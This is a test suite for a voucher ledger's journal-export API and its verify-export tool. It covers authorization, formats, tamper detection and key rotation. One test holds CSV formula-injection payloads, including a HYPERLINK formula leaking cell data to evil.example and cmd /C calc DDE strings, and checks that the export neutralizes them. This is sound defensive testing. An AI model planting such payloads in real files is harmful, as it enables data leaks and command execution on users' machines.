"""`GET /v1/exports/journal` through the real app, and `voucher-ledger verify-export` on what it gives.

The formats are read back by the tools an auditor would use: `json`, the `csv` module, and the real
`hledger` (installed by `.ci/run`; CI fails without it, a laptop may skip those checks with the reason).
"""

from __future__ import annotations

import asyncio
import csv
import io
import itertools
import json
import os
import shutil
import subprocess
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import httpx
import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from fastapi import FastAPI
from sqlalchemy.ext.asyncio import AsyncEngine

from app.apikeys import Role
from app.background import seal_all
from app.main import create_app
from app.routers import exports as exports_router
from app.settings import RATE_ROLES, RateRule, Settings
from ledger import chain, export
from ledger.errors import InvalidEntry
from ledger.postings import credit, debit
from ledger.service import Account, Entry, Ledger, run_in_transaction
from tests.ledger_support import open_accounts, unique
from tests.test_support import VOUCHER_LEDGER, assert_problem, bearer, create_key, running_app
from vouchers.keys import b64url, public_jwk

MEMO = '采购, "GPU" 租用; 算力券 | 第1期'


def roomy(settings: Settings) -> Settings:
    """These tests export many times with one key: room for that (tests/test_rate_limits.py checks the limit)."""
    rule = RateRule(rate_per_s=1_000, burst=1_000)
    limits = {role: {**settings.rate_limits[role], "export": rule} for role in RATE_ROLES}
    return settings.model_copy(update={"rate_limits": limits})


@pytest.fixture
async def app(settings: Settings) -> AsyncIterator[FastAPI]:
    app = create_app(roomy(settings))
    async with running_app(settings, app):
        yield app


@pytest.fixture
async def client(app: FastAPI) -> AsyncIterator[httpx.AsyncClient]:
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://test") as client:
        yield client


@pytest.fixture
async def auditor(engine: AsyncEngine) -> dict[str, str]:
    return bearer(await create_key(engine, Role.AUDITOR))


async def _journal(engine: AsyncEngine, ledger: Ledger) -> tuple[dict[str, Account], list[Entry]]:
    """A few entries under a fresh namespace: transfers (one with a memo that needs quoting), a hold captured
    in part (pending and release postings), a program's metadata, an entity's payable account."""
    acc = await open_accounts(
        engine,
        ledger,
        {"world": None, "budget": "debits_must_not_exceed_credits", "voucher": "debits_must_not_exceed_credits"},
    )
    space = acc["world"].code.split(":")[0]
    payable = f"entity:ent_{space}:payable"
    await run_in_transaction(engine, lambda c: ledger.open_account(c, payable))
    program = f"test.{space}"
    made = [
        await run_in_transaction(
            engine,
            lambda c: ledger.transfer(
                c,
                key=unique("k-"),
                postings=[debit(acc["world"].code, 1_000_000), credit(acc["budget"].code, 1_000_000)],
                metadata={"program": program},
            ),
        ),
        await run_in_transaction(
            engine,
            lambda c: ledger.transfer(
                c,
                key=unique("k-"),
                postings=[debit(acc["budget"].code, 123_456), credit(acc["voucher"].code, 123_456)],
                memo=MEMO,
            ),
        ),
    ]
    hold = await run_in_transaction(
        engine,
        lambda c: ledger.hold(
            c, key=unique("h-"), postings=[debit(acc["voucher"].code, 600), credit(payable, 600)], timeout_s=3600
        ),
    )
    made.append(hold)
    made.append(
        await run_in_transaction(
            engine, lambda c: ledger.post_pending(c, key=unique("p-"), pending_entry_id=hold.id, amount_fen=250)
        )
    )
    return acc | {"payable": Account(0, payable, "CNY", None)}, made


async def _get(client: httpx.AsyncClient, headers: dict[str, str], **params: str) -> httpx.Response:
    response = await client.get("/v1/exports/journal", params=params, headers=headers)
    assert response.status_code == 200, response.text
    return response


def _lines(body: bytes) -> list[bytes]:
    return body.splitlines(keepends=True)


async def test_only_auditors_and_admins_export_and_parameters_are_checked(
    client: httpx.AsyncClient, engine: AsyncEngine
) -> None:
    keys = {role: await create_key(engine, role) for role in Role}
    path = "/v1/exports/journal"
    assert_problem(await client.get(path), 401, "unauthorized")
    for role in (Role.ENTERPRISE, Role.PROVIDER):
        assert_problem(await client.get(path, headers=bearer(keys[role])), 403, "forbidden")
    for role in (Role.ADMIN, Role.AUDITOR):
        assert (await client.get(path, params={"format": "csv"}, headers=bearer(keys[role]))).status_code == 200
    auditor = bearer(keys[Role.AUDITOR])
    for bad in (
        {"format": "xml"},
        {"from": "2026-01-01T00:00:00"},  # no offset
        {"to": "yesterday"},
        {"from": "2026-02-01T00:00:00Z", "to": "2026-01-01T00:00:00Z"},
        {"program": "a b"},
        {"entity_id": "x;drop"},
        {"account_prefix": ":x"},
    ):
        assert_problem(await client.get(path, params=bad, headers=auditor), 422, "validation_error")


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"from": "0001-01-01T00:00:00+08:00"}, "from"),  # not even convertible to UTC: once a 500
        ({"to": "9999-12-31T23:00:00-08:00"}, "to"),
        ({"from": "1969-12-31T23:59:59Z"}, "from"),
        ({"to": "9999-01-01T00:00:01Z"}, "to"),
        ({"from": "2026-01-01T00:00:00+08:00", "to": "2025-12-31T16:00:00Z"}, "from"),  # the same instant
        ({"from": "2026-01-01T00:00:00Z", "to": "2026-01-01T00:00:00.000001+00:00", "format": "pdf"}, "format"),
    ],
)
async def test_a_bad_range_is_a_422_naming_its_field(
    client: httpx.AsyncClient, auditor: dict[str, str], params: dict[str, str], field: str
) -> None:
    response = await client.get("/v1/exports/journal", params=params, headers=auditor)
    body = assert_problem(response, 422, "validation_error")
    assert body["errors"][0]["loc"] == ["query", field], body
    assert "content-disposition" not in response.headers


async def test_the_widest_instants_are_accepted(client: httpx.AsyncClient, auditor: dict[str, str]) -> None:
    params = {"format": "csv", "from": "1970-01-01T00:00:00Z", "to": "9999-01-01T00:00:00Z"}
    assert (await client.get("/v1/exports/journal", params=params, headers=auditor)).status_code == 200


async def test_an_export_covers_at_most_the_configured_stretch_of_the_chain(
    settings: Settings, engine: AsyncEngine
) -> None:
    settings = roomy(settings).model_copy(update={"export_entries_max": 4})
    app = create_app(settings)
    auditor = bearer(await create_key(engine, Role.AUDITOR))
    async with running_app(settings, app) as client:
        ledger: Ledger = app.state.ledger
        await _journal(engine, ledger)  # with whatever the session's other tests sealed: more than 4
        await seal_all(engine, ledger)
        acc, made = await _journal(engine, ledger)
        await seal_all(engine, ledger)
        path = "/v1/exports/journal"
        for fmt in ("jsonl", "csv", "ledger"):
            refused = await client.get(path, params={"format": fmt}, headers=auditor)
            body = assert_problem(refused, 422, "validation_error")
            assert body["errors"][0]["loc"] == ["query", "to"]
            assert "more than the 4 one export may hold" in body["detail"]
            assert "content-disposition" not in refused.headers
        # filters do not help: the stretch is what is scanned
        filtered = await client.get(path, params={"account_prefix": acc["world"].code.split(":")[0]}, headers=auditor)
        assert_problem(filtered, 422, "validation_error")
        # the same journal as consecutive ranges: the last four entries are one export, and it verifies
        window = {"from": made[0].created_at.isoformat()}
        lines = _lines((await _get(client, auditor, format="jsonl", **window)).content)
        assert [json.loads(line)["id"] for line in lines[:-1]] == [str(e.id) for e in made]
        assert export.verify_export(lines, (await client.get("/.well-known/jwks.json")).json()).ok
        # an empty range is no stretch at all
        assert (await _get(client, auditor, format="csv", to="1970-01-01T00:00:01Z")).status_code == 200


async def test_jsonl_is_the_sealed_chain_in_order_with_a_signed_manifest(
    app: FastAPI, client: httpx.AsyncClient, engine: AsyncEngine, auditor: dict[str, str]
) -> None:
    ledger: Ledger = app.state.ledger
    acc, made = await _journal(engine, ledger)
    await seal_all(engine, ledger)
    unsealed = await run_in_transaction(
        engine,
        lambda c: ledger.transfer(
            c, key=unique("k-"), postings=[debit(acc["world"].code, 1), credit(acc["budget"].code, 1)]
        ),
    )
    response = await _get(client, auditor, format="jsonl")
    assert response.headers["content-type"] == "application/x-ndjson"
    disposition = response.headers["content-disposition"]
    assert disposition.startswith('attachment; filename="journal-start-') and disposition.endswith('.jsonl"')
    lines = _lines(response.content)
    records = [json.loads(line) for line in lines[:-1]]
    manifest = json.loads(lines[-1])
    # the lines PostgreSQL builds say exactly what the Python serializer (csv and ledger formats) says
    everything = {"from_ts": None, "to_ts": None, "program": None, "entity": None, "prefix": None}
    assert records == [record async for batch in exports_router._rows(engine, everything) for record in batch]
    assert [r["chain_seq"] for r in records] == list(range(1, len(records) + 1))
    assert all(r["prev_hash"] == p["hash"] for p, r in itertools.pairwise(records))
    by_id = {r["id"]: r for r in records}
    assert str(unsealed.id) not in by_id
    assert all(str(e.id) in by_id for e in made)
    memo_entry = by_id[str(made[1].id)]
    assert memo_entry["memo"] == MEMO
    assert memo_entry["postings"] == [
        {"account": acc["budget"].code, "debit_fen": 123_456, "credit_fen": 0, "phase": "posted"},
        {"account": acc["voucher"].code, "debit_fen": 0, "credit_fen": 123_456, "phase": "posted"},
    ]
    assert {p["phase"] for p in by_id[str(made[3].id)]["postings"]} == {"posted", "release"}
    assert manifest["type"] == "manifest" and manifest["entries"] == len(records)
    assert manifest["first_chain_seq"] == 1 and manifest["last_hash"] == records[-1]["hash"]
    assert manifest["contiguous"] is True and manifest["kid"] == app.state.keyring.active_kid

    jwks = (await client.get("/.well-known/jwks.json")).json()
    report = export.verify_export(lines, jwks)
    assert report.ok and report.signature_verified, report.summary
    assert f"sound: {len(records)} entries" in report.summary and "signature verified" in report.summary
    unsigned = export.verify_export(lines, None)
    assert unsigned.ok and not unsigned.signature_verified and "signature not checked" in unsigned.summary

    # an entry sealed later appears in the next export, the earlier lines unchanged
    await seal_all(engine, ledger)
    later = _lines((await _get(client, auditor, format="jsonl")).content)
    assert later[: len(records)] == lines[:-1]
    assert any(json.loads(line).get("id") == str(unsealed.id) for line in later[:-1])


async def test_filters_select_entries_and_still_verify(
    app: FastAPI, client: httpx.AsyncClient, engine: AsyncEngine, auditor: dict[str, str]
) -> None:
    ledger: Ledger = app.state.ledger
    before = datetime.now(UTC) - timedelta(seconds=1)
    acc, made = await _journal(engine, ledger)
    await seal_all(engine, ledger)
    space = acc["world"].code.split(":")[0]
    jwks = (await client.get("/.well-known/jwks.json")).json()
    ids = [str(e.id) for e in made]

    async def selected(**params: str) -> tuple[list[str], dict[str, Any]]:
        lines = _lines((await _get(client, auditor, format="jsonl", **params)).content)
        report = export.verify_export(lines, jwks)
        assert report.ok, report.summary
        return [json.loads(line)["id"] for line in lines[:-1]], json.loads(lines[-1])

    got, manifest = await selected(account_prefix=space)
    assert got == ids
    assert manifest["contiguous"] is False and manifest["filters"]["account_prefix"] == space
    assert (await selected(program=f"test.{space}"))[0] == ids[:1]
    assert (await selected(entity_id=f"ent_{space}"))[0] == ids[2:]
    got, manifest = await selected(**{"from": before.isoformat()})
    assert manifest["contiguous"] is True and set(ids) <= set(got)
    assert (await selected(**{"to": before.isoformat(), "account_prefix": space}))[0] == []
    empty = _lines((await _get(client, auditor, format="csv", **{"to": "2000-01-01T00:00:00+08:00"})).content)
    assert empty == [b"entry_id,chain_seq,created_at,kind,account,debit_fen,credit_fen,phase,memo,hash\r\n"]


async def test_csv_has_a_row_per_posting_with_rfc4180_quoting(
    app: FastAPI, client: httpx.AsyncClient, engine: AsyncEngine, auditor: dict[str, str]
) -> None:
    ledger: Ledger = app.state.ledger
    acc, made = await _journal(engine, ledger)
    await seal_all(engine, ledger)
    space = acc["world"].code.split(":")[0]
    response = await _get(client, auditor, format="csv", account_prefix=space)
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].endswith('.csv"')
    assert b"\r\n" in response.content and '"采购, ""GPU"" 租用; 算力券 | 第1期"'.encode() in response.content
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8"), newline="")))
    assert [r["entry_id"] for r in rows] == [str(e.id) for e in made for _ in e.postings]
    memo_rows = [r for r in rows if r["entry_id"] == str(made[1].id)]
    assert [r["memo"] for r in memo_rows] == [MEMO, MEMO]
    assert [(r["account"], r["debit_fen"], r["credit_fen"]) for r in memo_rows] == [
        (acc["budget"].code, "123456", "0"),
        (acc["voucher"].code, "0", "123456"),
    ]
    assert all(len(r["hash"]) == 64 and r["chain_seq"].isdigit() for r in rows)


FORMULAS = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=quoted by the caller",
)


async def test_csv_cells_never_begin_a_formula(
    app: FastAPI, client: httpx.AsyncClient, engine: AsyncEngine, auditor: dict[str, str]
) -> None:
    # memos are free text to the ledger (the API's own are fixed text today): written through the service
    ledger: Ledger = app.state.ledger
    acc = await open_accounts(engine, ledger, {"world": None, "budget": None})
    space = acc["world"].code.split(":")[0]
    made = [
        await run_in_transaction(
            engine,
            lambda c, memo=memo: ledger.transfer(
                c,
                key=unique("k-"),
                postings=[debit(acc["world"].code, 1_500), credit(acc["budget"].code, 1_500)],
                memo=memo,
                metadata={"note": FORMULAS[0]},
            ),
        )
        for memo in (*FORMULAS, "ordinary")
    ]
    await seal_all(engine, ledger)
    # an account code cannot begin with one: the ledger refuses it
    with pytest.raises(InvalidEntry):
        await run_in_transaction(engine, lambda c: ledger.open_account(c, "-2+3"))

    body = (await _get(client, auditor, format="csv", account_prefix=space)).content.decode("utf-8")
    table = list(csv.reader(io.StringIO(body, newline="")))
    assert table[0] == list(export.CSV_HEADER)
    rows = [dict(zip(table[0], row, strict=True)) for row in table[1:]]
    assert [r["entry_id"] for r in rows] == [str(e.id) for e in made for _ in e.postings]
    for row in table[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
    # a text cell that begins with ' had exactly one added: dropping it gives the memo back
    assert [r["memo"] for r in rows[::2]] == [f"'{memo}" for memo in FORMULAS] + ["ordinary"]
    assert [r["memo"].removeprefix("'") if r["memo"].startswith("'") else r["memo"] for r in rows[::2]] == [
        *FORMULAS,
        "ordinary",
    ]
    # amounts stay bare numbers, which is what a spreadsheet or an auditor's script reads
    assert {(r["debit_fen"], r["credit_fen"]) for r in rows} == {("1500", "0"), ("0", "1500")}
    assert "\r\n" in body and ',1500,0,posted,"\'=HYPERLINK(""https://evil.example/' in body


def _hledger() -> str:
    found = shutil.which("hledger")
    if found is None:
        if os.environ.get("CI", "").lower() == "true":
            pytest.fail("hledger is not installed: .ci/run installs it (apt-get install hledger)")
        pytest.skip("hledger is not installed (apt-get install hledger); CI installs it and runs this check")
    return found


async def test_hledger_reads_the_ledger_export_and_agrees_with_the_api(
    app: FastAPI, client: httpx.AsyncClient, engine: AsyncEngine, auditor: dict[str, str], tmp_path: Path
) -> None:
    hledger = _hledger()
    ledger: Ledger = app.state.ledger
    acc, _made = await _journal(engine, ledger)
    await seal_all(engine, ledger)
    response = await _get(client, auditor, format="ledger")
    assert response.headers["content-type"] == "text/plain; charset=utf-8"
    assert response.headers["content-disposition"].endswith('.journal"')
    journal = tmp_path / "export.journal"
    journal.write_bytes(response.content)
    assert "-1234.56 CNY" in response.text and "; pending: debit" in response.text

    result = await asyncio.to_thread(
        subprocess.run,
        [hledger, "-f", str(journal), "balance", "--flat", "--empty", "--no-total", "-O", "csv"],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert rows[0] == ["account", "balance"]
    from_hledger = {row[0]: Decimal(row[1].removesuffix(" CNY").replace(",", "") or "0") for row in rows[1:]}

    from_api: dict[str, Decimal] = {}
    cursor = None
    while True:
        params = {"limit": 500, **({"cursor": cursor} if cursor else {})}
        page = (await client.get("/v1/ledger/accounts", params=params, headers=auditor)).json()
        for account in page["data"]:
            from_api[account["code"]] = Decimal(account["debits_posted_fen"] - account["credits_posted_fen"]) / 100
        cursor = page["next_cursor"]
        if cursor is None:
            break
    assert from_hledger, result.stdout
    for code, balance in from_hledger.items():
        assert from_api[code] == balance, code
    for code, balance in from_api.items():
        assert from_hledger.get(code, Decimal(0)) == balance, code
    # the hold moved nothing; its capture posted 2.50 to the payable
    assert from_hledger[acc["payable"].code] == Decimal("-2.50")
    assert from_hledger[acc["voucher"].code] == Decimal("-1234.56") + Decimal("2.50")


# -- verify-export: each way an export can be damaged is named by its first bad line ------------------------


async def _export(
    app: FastAPI, client: httpx.AsyncClient, engine: AsyncEngine, auditor: dict[str, str]
) -> tuple[list[bytes], dict[str, Any]]:
    ledger: Ledger = app.state.ledger
    await _journal(engine, ledger)
    await seal_all(engine, ledger)
    lines = _lines((await _get(client, auditor, format="jsonl")).content)
    assert len(lines) >= 6
    return lines, (await client.get("/.well-known/jwks.json")).json()


def _edit(line: bytes, **changes: Any) -> bytes:
    return json.dumps({**json.loads(line), **changes}, ensure_ascii=False, separators=(",", ":")).encode() + b"\n"


async def test_verify_export_names_the_first_bad_line(
    app: FastAPI, client: httpx.AsyncClient, engine: AsyncEngine, auditor: dict[str, str]
) -> None:
    lines, jwks = await _export(app, client, engine, auditor)
    n = len(lines)  # the manifest is line n
    assert export.verify_export(lines, jwks).ok

    def bad(damaged: list[bytes], keys: dict[str, Any] | None = jwks) -> int | None:
        report = export.verify_export(damaged, keys)
        assert not report.ok
        assert report.summary.startswith(f"line {report.first_bad_line}:"), report.summary
        return report.first_bad_line

    # edited: a memo, an amount (kept balanced), or the hash recomputed by the editor
    assert bad([*lines[:2], _edit(lines[2], memo="edited"), *lines[3:]]) == 3
    record = json.loads(lines[1])
    postings = [{**p, "debit_fen": p["debit_fen"] * 2, "credit_fen": p["credit_fen"] * 2} for p in record["postings"]]
    assert bad([lines[0], _edit(lines[1], postings=postings), *lines[2:]]) == 2
    unbalanced = [{**postings[0], "debit_fen": postings[0]["debit_fen"] + 1}, *postings[1:]]
    assert "does not balance" in export.verify_export([lines[0], _edit(lines[1], postings=unbalanced)], jwks).summary
    # deleted: in the middle (the chain breaks at the next line), or the last entry (the manifest disagrees)
    assert bad([*lines[:2], *lines[3:]]) == 3
    assert bad([*lines[: n - 2], lines[-1]]) == n - 1
    # reordered
    assert bad([lines[0], lines[2], lines[1], *lines[3:]]) == 2
    # appended after the manifest, or inserted before it (a line copied from elsewhere)
    assert bad([*lines, lines[1]]) == n + 1
    assert bad([*lines[:-1], lines[1], lines[-1]]) == n
    # cut tail: no manifest, or a half line
    assert bad(lines[:-1]) == n
    assert bad([*lines[:-1], lines[-1][:20]]) == n
    assert bad([*lines[:-2], lines[-2][:-1]]) == n - 1
    # the manifest re-signed with another key, or altered and left as signed
    other = Ed25519PrivateKey.generate()
    manifest = json.loads(lines[-1])
    forged = export.manifest_line({**manifest, "kid": public_jwk(other.public_key())["kid"]}, other)
    assert bad([*lines[:-1], forged]) == n
    forged_same_kid = export.manifest_line(manifest, other)
    assert bad([*lines[:-1], forged_same_kid]) == n
    assert bad([*lines[:-1], _edit(lines[-1], created_at="2020-01-01T00:00:00.000000Z")]) == n
    # the forgery passes every check but the signature, which is why an auditor gives --jwks
    unchecked = export.verify_export([*lines[:-1], forged], None)
    assert unchecked.ok and not unchecked.signature_verified
    assert bad(lines, {"keys": []}) == n


def _re_signed(lines: list[bytes], drop: int | None = None, **declared: str | None) -> list[bytes]:
    """An attacker's copy: the entry at index `drop` deleted, the filters `declared` set, and a manifest that
    describes what is left, signed with a fresh Ed25519 key under the service's kid."""
    manifest = json.loads(lines[-1])
    kept = [line for index, line in enumerate(lines[:-1]) if index != drop]
    builder = export.ManifestBuilder({**manifest["filters"], **declared})
    for line in kept:
        builder.add(json.loads(line), line)
    return [*kept, builder.signed_line(manifest["kid"], Ed25519PrivateKey.generate(), datetime.now(UTC))]


async def test_verify_export_checks_the_declared_selection(
    app: FastAPI, client: httpx.AsyncClient, engine: AsyncEngine, auditor: dict[str, str]
) -> None:
    ledger: Ledger = app.state.ledger
    acc, made = await _journal(engine, ledger)
    await seal_all(engine, ledger)
    space = acc["world"].code.split(":")[0]
    jwks = (await client.get("/.well-known/jwks.json")).json()

    def bad(lines: list[bytes]) -> tuple[int | None, str]:
        report = export.verify_export(lines, None)
        assert not report.ok, report.summary
        return report.first_bad_line, report.summary

    # a selection whose manifest is honest passes; the same entries under another declared filter do not
    ours = _lines((await _get(client, auditor, format="jsonl", account_prefix=space)).content)
    assert [json.loads(line)["id"] for line in ours[:-1]] == [str(e.id) for e in made]
    assert export.verify_export(ours, jwks).ok
    assert export.verify_export(_re_signed(ours), None).ok  # nothing changed but the key: only --jwks tells
    line, summary = bad(_re_signed(ours, account_prefix=f"{space}:budget"))
    assert line == 3 and "does not match the declared account_prefix" in summary  # the hold touches no budget
    line, summary = bad(_re_signed(ours, account_prefix=None, program=f"test.{space}"))
    assert line == 2 and "does not match the declared program" in summary
    line, summary = bad(_re_signed(ours, account_prefix=None, entity_id=f"ent_{space}"))
    assert line == 1 and "does not match the declared entity_id" in summary
    line, summary = bad(_re_signed(ours, account_prefix=None, entity_id="ent_someone_else"))
    assert line == 1

    # consecutive seals link in a selection too: an entry replaced by one hashed anew breaks the next link
    seqs = [json.loads(line)["chain_seq"] for line in ours[:-1]]
    assert seqs == list(range(seqs[0], seqs[0] + len(seqs)))
    record = {**json.loads(ours[1]), "memo": "paid to someone else"}
    record["hash"] = chain.link_hash(bytes.fromhex(record["prev_hash"]), export._canonical_from_record(record)).hex()
    replaced = _re_signed([ours[0], export.jsonl_line(record), *ours[2:]])
    line, summary = bad(replaced)
    assert line == 3 and "one of them was replaced" in summary

    # a contiguous export's ends are what from/to bound; without from it starts the chain at seal 1
    window = made[0].created_at
    ranged = _lines((await _get(client, auditor, format="jsonl", **{"from": window.isoformat()})).content)
    assert export.verify_export(ranged, jwks).ok
    later = chain.rfc3339(window + timedelta(microseconds=1))
    line, summary = bad(_re_signed(ranged, **{"from": later}))
    assert line == 1 and "before the declared `from`" in summary
    line, summary = bad(_re_signed(ranged, to=json.loads(ranged[-2])["created_at"]))
    assert line == len(ranged) - 1 and "not before the declared `to`" in summary
    whole = _lines((await _get(client, auditor, format="jsonl")).content)
    assert export.verify_export(whole, jwks).ok
    line, summary = bad(_re_signed(whole, drop=0))
    assert line == 1 and "the entries before it are missing" in summary

    # offline, an entry that touches a voucher's account may belong to any program or entity: said so
    voucher = f"voucher:vch_{space}"
    await run_in_transaction(engine, lambda c: ledger.open_account(c, voucher))
    await run_in_transaction(
        engine,
        lambda c: ledger.transfer(
            c,
            key=unique("k-"),
            postings=[debit(acc["world"].code, 5), credit(voucher, 5)],
            metadata={"program": f"test.{space}"},
        ),
    )
    await seal_all(engine, ledger)
    touching = _lines((await _get(client, auditor, format="jsonl", account_prefix=voucher)).content)
    assert len(touching) == 2
    report = export.verify_export(_re_signed(touching, account_prefix=None, program="data.pilot_dataset"), None)
    assert report.ok and "1 touch a voucher's account" in report.summary, report.summary


async def _cli(*args: str, **env: str) -> subprocess.CompletedProcess[str]:
    clean = {k: v for k, v in os.environ.items() if not k.startswith("VL_") and k != "DATABASE_URL"}
    return await asyncio.to_thread(
        subprocess.run,
        [VOUCHER_LEDGER, *args],
        env={**clean, "VL_BACKGROUND_TASKS": "false", **env},
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


async def test_cli_verify_export_and_old_exports_after_a_rotation(
    app: FastAPI, client: httpx.AsyncClient, engine: AsyncEngine, auditor: dict[str, str], db_url: str, tmp_path: Path
) -> None:
    lines, jwks = await _export(app, client, engine, auditor)
    good = tmp_path / "journal.jsonl"
    good.write_bytes(b"".join(lines))
    jwks_file = tmp_path / "jwks.json"
    jwks_file.write_text(json.dumps(jwks))

    ok = await _cli("verify-export", str(good), "--jwks", str(jwks_file))
    assert ok.returncode == 0, ok.stderr
    assert ok.stdout.count("\n") == 1 and "sound:" in ok.stdout and "signature verified" in ok.stdout
    # without --jwks a sound file is not a pass: anyone can write a manifest; --skip-signature says so and passes
    unsigned = await _cli("verify-export", str(good))
    assert unsigned.returncode == 3, unsigned.stderr
    assert "signature not checked" in unsigned.stderr and "sound:" in unsigned.stderr and unsigned.stdout == ""
    skipped = await _cli("verify-export", str(good), "--skip-signature")
    assert skipped.returncode == 0, skipped.stderr
    assert skipped.stdout.count("\n") == 1 and "sound:" in skipped.stdout and "--skip-signature" in skipped.stdout
    both = await _cli("verify-export", str(good), "--skip-signature", "--jwks", str(jwks_file))
    assert both.returncode == 2 and "not allowed with" in both.stderr

    damaged = tmp_path / "damaged.jsonl"
    damaged.write_bytes(b"".join([lines[0], lines[2], lines[1], *lines[3:]]))
    result = await _cli("verify-export", str(damaged), "--jwks", str(jwks_file))
    assert result.returncode == 1 and "line 2:" in result.stderr and result.stdout == ""
    missing = await _cli("verify-export", str(tmp_path / "nope.jsonl"))
    assert missing.returncode == 2
    assert (await _cli("verify-export", str(good), "--jwks", str(tmp_path / "nope.json"))).returncode == 2

    # keys rotate (another process, as an operator runs it): the old export still verifies against the JWKS
    old_kid = json.loads(lines[-1])["kid"]
    rotated = await _cli("keys", "rotate", DATABASE_URL=db_url, VL_KEY_ENCRYPTION_KEY=b64url(app.state.keyring.kek.key))
    assert rotated.returncode == 0, rotated.stderr
    new_kid = rotated.stdout.strip().splitlines()[-1]
    assert new_kid != old_kid
    fresh = _lines((await _get(client, auditor, format="jsonl")).content)
    assert json.loads(fresh[-1])["kid"] == new_kid
    jwks_now = (await client.get("/.well-known/jwks.json")).json()
    assert {old_kid, new_kid} <= {k["kid"] for k in jwks_now["keys"]}
    jwks_file.write_text(json.dumps(jwks_now))
    after = await _cli("verify-export", str(good), "--jwks", str(jwks_file))
    assert after.returncode == 0, after.stderr
    assert export.verify_export(fresh, jwks_now).ok
    # a JWKS without the signing key (the old one, say) does not vouch for the new export
    assert not export.verify_export(fresh, jwks).ok


async def test_an_export_re_signed_after_a_deletion_does_not_pass(
    app: FastAPI, client: httpx.AsyncClient, engine: AsyncEngine, auditor: dict[str, str], tmp_path: Path
) -> None:
    """The attack of issue 12: delete an entry, declare a filter (a selection may skip seals), sign the
    manifest anew with a key of one's own. Once it passed `verify-export` without --jwks with exit 0."""
    ledger: Ledger = app.state.ledger
    acc, made = await _journal(engine, ledger)
    await seal_all(engine, ledger)
    space = acc["world"].code.split(":")[0]
    jwks_file = tmp_path / "jwks.json"
    jwks_file.write_text((await client.get("/.well-known/jwks.json")).text)
    whole = _lines((await _get(client, auditor, format="jsonl")).content)
    ours = _lines((await _get(client, auditor, format="jsonl", account_prefix=space)).content)
    hold = next(i for i, line in enumerate(whole) if json.loads(line).get("id") == str(made[2].id))

    async def verify(lines: list[bytes], *flags: str) -> subprocess.CompletedProcess[str]:
        path = tmp_path / "attacked.jsonl"
        path.write_bytes(b"".join(lines))
        return await _cli("verify-export", str(path), *flags)

    # the whole journal with the hold deleted, declared as a program's selection, which its entries are not
    forged = _re_signed(whole, drop=hold, program=f"test.{space}")
    for flags in ((), ("--skip-signature",), ("--jwks", str(jwks_file))):
        result = await verify(forged, *flags)
        assert result.returncode == 1, (flags, result.stdout, result.stderr)
        assert "NOT SOUND" in result.stderr and "does not match the declared program" in result.stderr
        assert result.stdout == ""

    # the same deletion from a selection the rest does match: only the signature can tell, so only --jwks passes
    forged = _re_signed(ours, drop=2)
    unchecked = await verify(forged)
    assert unchecked.returncode == 3, (unchecked.stdout, unchecked.stderr)
    assert "signature not checked" in unchecked.stderr and unchecked.stdout == ""
    skipped = await verify(forged, "--skip-signature")
    assert skipped.returncode == 0 and "skipped (--skip-signature)" in skipped.stdout, skipped.stderr
    checked = await verify(forged, "--jwks", str(jwks_file))
    assert checked.returncode == 1 and "signature does not verify" in checked.stderr, checked.stderr
    assert f"line {len(forged)}:" in checked.stderr


async def test_a_time_written_as_a_number_is_a_422(client: httpx.AsyncClient, auditor: dict[str, str]) -> None:
    # pydantic alone reads a number as seconds since 1970: `?to=0.5` was once an export up to 00:00:00.5
    for field in ("from", "to"):
        for number in ("0.5", "1577808000", "86400"):
            response = await client.get("/v1/exports/journal", params={field: number}, headers=auditor)
            body = assert_problem(response, 422, "validation_error")
            assert body["errors"][0]["loc"] == ["query", field], body
            assert "content-disposition" not in response.headers
